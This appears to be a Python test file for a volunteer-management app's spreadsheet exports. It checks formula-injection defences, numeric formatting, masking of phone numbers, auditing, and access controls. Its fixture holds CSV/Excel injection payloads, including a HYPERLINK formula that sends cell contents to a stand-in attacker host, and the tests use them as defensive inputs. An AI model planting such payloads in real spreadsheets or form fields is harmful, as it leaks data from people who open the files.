"""Every spreadsheet export: inert user data, numbers as numbers, full numbers only when asked."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests import factories as f
from tests.job_support import job_file
from volunteer.extensions import db
from volunteer.models import AuditEntry, UnitKind

# Values a hostile user might type into a name, a title or a unit.
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2+3", "@SUM(A1)")


@pytest.fixture
def hostile_world(app):
    """A unit, people and an activity named like formulas, with one completed and two missing."""
    banner = f.make_unit("WS", "乌审旗")
    unit = f.make_unit("WS-X", HOSTILE[0], banner, UnitKind.TOWN)
    team = f.make_organization(HOSTILE[2], unit)
    start = datetime.now(UTC).replace(hour=1, minute=0, second=0, microsecond=0)
    activity = f.make_activity(team, starts_at=start - timedelta(days=1), title=HOSTILE[0])
    done = f.make_volunteer(HOSTILE[1])
    f.make_roster_entry(unit, done)
    f.make_record(done, activity, 95)
    f.make_roster_entry(unit, f.make_volunteer(HOSTILE[3]))
    missing = f.make_roster_entry(unit, name=HOSTILE[0])
    missing.phone, missing.position = "13800001234", HOSTILE[1]
    world = {
        "unit": unit,
        "team": team,
        "missing": missing,
        "coordinator": f.make_coordinator(unit),
        "organizer": f.make_organizer(team),
        "admin": f.make_admin(),
    }
    db.session.commit()
    return world


def cells(data: bytes):
    """Every non-empty cell of every sheet of a workbook."""
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]


def assert_inert(data: bytes) -> None:
    found = cells(data)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    texts = {cell.value for cell in found if isinstance(cell.value, str)}
    assert HOSTILE[0] in texts or HOSTILE[1] in texts  # the hostile values are there, as text


def xlsx_exports(client, world) -> dict[str, bytes]:
    """Every workbook the coordinator and organizer can download about the hostile world."""
    unit = world["unit"].id
    files = {
        "compliance": job_file(client, client.get(f"/compliance/units/{unit}/export.xlsx")).data,
        "compliance_full": job_file(
            client, client.post(f"/compliance/units/{unit}/export.xlsx")
        ).data,
        "missing": client.get(f"/compliance/units/{unit}/missing.xlsx").data,
        "missing_full": client.post(f"/compliance/units/{unit}/missing.xlsx").data,
        "current_roster": client.post(f"/compliance/units/{unit}/roster/current.xlsx").data,
    }
    client.post("/auth/logout")
    return files


def test_no_export_holds_a_formula_made_of_user_data(client, login_as, hostile_world):
    login_as(hostile_world["coordinator"])
    files = xlsx_exports(client, hostile_world)
    login_as(hostile_world["organizer"])
    team = str(hostile_world["team"].id)
    national = client.post("/national-export/", data={"organization_id": team, "period": "year"})
    files["national"] = national.data
    client.post("/auth/logout")
    login_as(hostile_world["admin"])
    files["audit"] = client.get("/admin/audit/export.xlsx").data
    for name, data in files.items():
        assert data[:2] == b"PK", name
        assert_inert(data)


def test_the_csv_quotes_every_value_that_would_start_a_formula(client, login_as, hostile_world):
    login_as(hostile_world["coordinator"])
    response = job_file(
        client, client.get(f"/compliance/units/{hostile_world['unit'].id}/export.csv")
    )
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + HOSTILE[0]]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)


def test_rates_hours_and_counts_are_numbers_with_formats(client, login_as, hostile_world):
    login_as(hostile_world["coordinator"])
    unit = hostile_world["unit"].id
    export = job_file(client, client.get(f"/compliance/units/{unit}/export.xlsx"))
    workbook = load_workbook(io.BytesIO(export.data))
    summary = workbook.worksheets[0]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref.startswith("A1:")
    staff, rate = summary["C2"], summary["F2"]
    assert staff.value == 3 and staff.data_type == "n"
    assert rate.value == pytest.approx(0.333) and rate.number_format == "0.0%"
    missing = load_workbook(io.BytesIO(client.get(f"/compliance/units/{unit}/missing.xlsx").data))
    hours = [row[9] for row in missing.active.iter_rows(min_row=2)]
    assert hours and all(cell.data_type == "n" and cell.number_format == "0.0" for cell in hours)


def test_full_numbers_only_on_a_post_and_the_export_is_audited(client, login_as, hostile_world):
    login_as(hostile_world["coordinator"])
    entry, unit = hostile_world["missing"], hostile_world["unit"].id
    masked = cells(client.get(f"/compliance/units/{unit}/missing.xlsx").data)
    assert entry.id_number not in {cell.value for cell in masked}
    assert "138****1234" in {cell.value for cell in masked}
    full = cells(client.post(f"/compliance/units/{unit}/missing.xlsx").data)
    numbers = {cell.value: cell for cell in full}
    assert numbers[entry.id_number].data_type == "s" and "13800001234" in numbers
    audited = db.session.scalars(
        select(AuditEntry.details).where(AuditEntry.action == "compliance.export_missing")
    ).all()
    assert [details["full_numbers"] for details in audited] == [False, True]


def test_the_missing_page_offers_the_full_number_export_as_a_post(client, login_as, hostile_world):
    login_as(hostile_world["coordinator"])
    page = client.get(f"/compliance/units/{hostile_world['unit'].id}/missing").get_data(
        as_text=True
    )
    form = page.split('id="export-full-numbers"')[0].rsplit("<form", 1)[1]
    assert 'method="post"' in form and "missing.xlsx" in form
    assert "导出（含完整号码）" in page


def test_a_stranger_cannot_have_the_full_numbers(client, login_as, hostile_world):
    other = f.make_unit("WS-Y", "别的单位", hostile_world["unit"].parent, UnitKind.TOWN)
    stranger = f.make_coordinator(other, "孙协调")
    login_as(stranger)
    unit = hostile_world["unit"].id
    assert client.post(f"/compliance/units/{unit}/missing.xlsx").status_code == 403
    assert client.post(f"/compliance/units/{unit}/roster/current.xlsx").status_code == 403


def test_the_full_number_export_needs_the_csrf_token(
    app, client, login_as, hostile_world, monkeypatch
):
    login_as(hostile_world["coordinator"])
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    unit = hostile_world["unit"].id
    assert client.post(f"/compliance/units/{unit}/missing.xlsx").status_code == 400
    assert client.post(f"/compliance/units/{unit}/roster/current.xlsx").status_code == 400
